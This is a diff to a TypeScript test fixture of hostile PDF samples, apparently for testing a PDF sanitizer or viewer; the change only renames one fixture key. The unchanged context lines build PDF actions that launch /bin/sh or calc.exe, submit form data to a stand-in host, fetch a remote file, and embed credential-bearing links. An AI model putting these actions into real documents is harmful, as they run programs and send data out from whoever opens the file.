@@ -81,7 +81,7 @@ export const hostilePdfs: Readonly<Record<string, () => Buffer>> = {
   'a program to start': () => pdf(action('<</S/Launch/F(/bin/sh)/Win<</F(calc.exe)>>>>')),
   'a form to send': () => pdf(action('<</S/SubmitForm/F(http://stranger.invalid/f)/Flags 4>>')),
   'another file': () => pdf(action('<</S/GoToR/F(http://stranger.invalid/a.pdf)/D[0/Fit]>>')),
-  'addresses that are no sites': () =>
+  'addresses of other schemes': () =>
     pdf({
       page: `/Annots[${[...addresses, 'https://a:b@stranger.invalid/', 'blob:null/1'].map(link).join('')}]`,
     }),
